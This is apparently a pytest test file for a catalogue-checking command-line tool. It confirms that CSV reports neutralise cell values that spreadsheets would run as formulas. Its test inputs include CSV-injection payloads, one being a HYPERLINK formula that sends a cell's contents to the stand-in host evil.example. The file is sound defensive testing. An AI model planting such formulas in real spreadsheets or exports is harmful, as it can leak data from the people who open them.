"""Values that spreadsheets execute are neutralised in CSV reports (issue 14, item 11)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from cli_run import run_cli

HEADER = ["*Unique ID", "Parent Unique ID", "*Product Name", "*Price", "*Product Main Image URL"]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
           "\t=1+1"]


def test_formula_values_are_neutralised_in_the_csv_report(isolated: Path) -> None:
    rows = [HEADER] + [[sku, sku, "", "abc", "img.jpg"] for sku in HOSTILE]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    (isolated / "cat.csv").write_text(buffer.getvalue(), encoding="utf-8")
    status, _, err = run_cli("check", "cat.csv", "--select", "TTL001,PRC001", "--format", "csv",
                             "--output", "r.csv")
    assert status == 1, err
    report = list(csv.DictReader((isolated / "r.csv").open(encoding="utf-8")))
    skus = {r["product_sku"] for r in report}
    assert skus == {"'" + s.strip() for s in HOSTILE}  # the reader trims whitespace
    for rec in report:
        for value in rec.values():
            assert not value or value[0] not in "=+-@\t\r", value
    # A negative number stays a number (the value column is numeric, not text).
    assert all(r["row"].isdigit() for r in report)


def test_ordinary_values_are_left_alone(isolated: Path) -> None:
    rows = [HEADER, ["P-1", "P-1", "", "9.99", "img.jpg"]]
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    (isolated / "cat.csv").write_text(buffer.getvalue(), encoding="utf-8")
    run_cli("check", "cat.csv", "--select", "TTL001", "--format", "csv", "--output", "r.csv")
    report = list(csv.DictReader((isolated / "r.csv").open(encoding="utf-8")))
    assert [r["product_sku"] for r in report] == ["P-1"]
